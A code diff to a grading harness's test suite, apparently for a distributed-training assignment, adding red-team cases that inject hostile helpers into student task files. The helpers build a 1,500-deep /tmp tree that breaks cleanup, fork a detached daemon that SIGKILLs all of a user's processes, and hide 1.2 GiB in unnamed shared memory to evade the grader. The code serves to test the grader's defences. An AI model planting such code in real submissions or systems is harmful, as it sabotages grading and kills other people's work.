@@ -199,7 +199,85 @@ CASES: list[Case] = [
                 f"test_meta_init_then_training_matches_eager",
          fine=(GRAD_2, TIED_2, "test_training_matches_single_process_and_torch_fsdp2[gloo-2]",
                "test_meta_init_then_training_matches_eager")),
+    # Issue 25: the red team's list. Each needs the rank user (the grader's own situation on Gradescope).
+    Case("deep_tree", "leaves a 1,500-deep folder tree under /tmp (results correct; shutil.rmtree's RecursionError "
+         "in every later teardown scored the reference 35.79)",
+         edits=(_insert(7, "    if isinstance(module, FSDPModule):\n", "    _zoo_deep_tree()\n"),),
+         select=f"{RESHARDED} or {SIBLING}", fine=(RESHARDED, SIBLING), needs_rank_user=True),
+    Case("detached_daemon", "rank 0 leaves a daemon (double fork, setsid) that, once its rank has ended, SIGKILLs "
+         "every process of its user: the FSDP2 run the differential test makes next (results correct)",
+         edits=(_insert(7, "    if isinstance(module, FSDPModule):\n", "    _zoo_daemon()\n"),),
+         select="test_generated_scripts_match_torch_fsdp2", fine=("test_generated_scripts_match_torch_fsdp2",),
+         needs_rank_user=True, timeout_cap=60.0),
+    Case("hidden_shared_memory", "holds 1.2 GiB a rank in memfd files (refused in a graded rank) or else in /dev/shm "
+         "files it unlinks at once: memory no listing of files finds (2 ranks, 2 GiB for the whole submission)",
+         edits=(_insert(5, "    grads = [fp.shard.grad for fp in flat_params", "    _zoo_hidden_shm()\n"),),
+         select=f"{CLIP} or {TIED_2}", broken=(CLIP,), fine=(TIED_2,), needs_rank_user=True,
+         message=r"were all killed: together they used"),
 ]
+
+
+RED_TEAM_HELPERS = '''
+
+def _zoo_deep_tree():
+    """Zoo (issue 25): a 1,500-deep folder tree under /tmp, once a process."""
+    import os as _os
+    if _os.environ.get("_ZOO_DEEP_TREE"):
+        return
+    _os.environ["_ZOO_DEEP_TREE"] = "1"
+    fd = _os.open("/tmp", _os.O_RDONLY | _os.O_DIRECTORY)
+    name = f"zoo-deep-{_os.getpid()}"
+    for _ in range(1500):
+        _os.mkdir(name, dir_fd=fd)
+        child = _os.open(name, _os.O_RDONLY | _os.O_DIRECTORY, dir_fd=fd)
+        _os.close(fd)
+        fd, name = child, "d"
+    _os.close(fd)
+
+
+def _zoo_daemon():
+    """Zoo (issue 25): rank 0 leaves a daemon that, once the rank has ended, SIGKILLs every process of its user
+    for two minutes (kill(-1) as an unprivileged user: only that user's processes). Never as root."""
+    import os as _os, signal as _signal, time as _time
+    if _os.environ.get("_ZOO_DAEMON") or dist.get_rank() != 0 or _os.getuid() == 0:
+        return
+    _os.environ["_ZOO_DAEMON"] = "1"
+    rank = _os.getpid()
+    if _os.fork() == 0:
+        _os.setsid()
+        if _os.fork() == 0:
+            try:
+                while _os.path.exists(f"/proc/{rank}"):
+                    _time.sleep(0.01)
+                end = _time.monotonic() + 120
+                while _time.monotonic() < end:
+                    try:
+                        _os.kill(-1, _signal.SIGKILL)
+                    except OSError:
+                        pass
+                    _time.sleep(0.005)
+            finally:
+                _os._exit(0)
+        _os._exit(0)
+    _os.waitpid(-1, 0)
+
+
+def _zoo_hidden_shm():
+    """Zoo (issue 25): 1.2 GiB in files without a name (memfd, or /dev/shm files unlinked at once), held."""
+    import os as _os, time as _time
+    fds = []
+    for i in range(6):
+        try:
+            fd = _os.memfd_create("zoo")
+        except OSError:  # refused in a graded rank (seccomp)
+            path = f"/dev/shm/zoo-{_os.getpid()}-{i}"
+            fd = _os.open(path, _os.O_RDWR | _os.O_CREAT | _os.O_EXCL, 0o600)
+            _os.unlink(path)
+        for _ in range(20):
+            _os.write(fd, b"x" * (10 << 20))
+        fds.append(fd)
+    _time.sleep(30)  # while the grader counts
+'''
 
 
 def stub_files(root: Path = ROOT) -> dict[str, str]:
@@ -226,6 +304,9 @@ def case_files(case: Case, root: Path = ROOT) -> dict[str, str]:
     if any("_zoo_forge_pass()" in new or "_zoo_swap_output(" in new for _, _, new in case.edits):
         rel = f"fsdp_assignment/{mutations.TASK_FILES[3]}"
         files[rel] += ISSUE14_HELPERS
+    for task, _, new in case.edits:
+        if "_zoo_deep_tree()" in new or "_zoo_daemon()" in new or "_zoo_hidden_shm()" in new:
+            files[f"fsdp_assignment/{mutations.TASK_FILES[task]}"] += RED_TEAM_HELPERS
     return files
 
 
@@ -264,7 +345,7 @@ def tagged_processes(tag: str) -> list[tuple[int, str]]:
 def leftovers_of(user: str) -> list[str]:
     """What the rank user still owns after a grading run: System V IPC objects, files in world-writable places."""
     import pwd
-    from grading_plugin import world_writable_places
+    from cleanup import world_writable_places
     uid = pwd.getpwnam(user).pw_uid
     problems = []
     for kind in ("shm", "sem", "msg"):
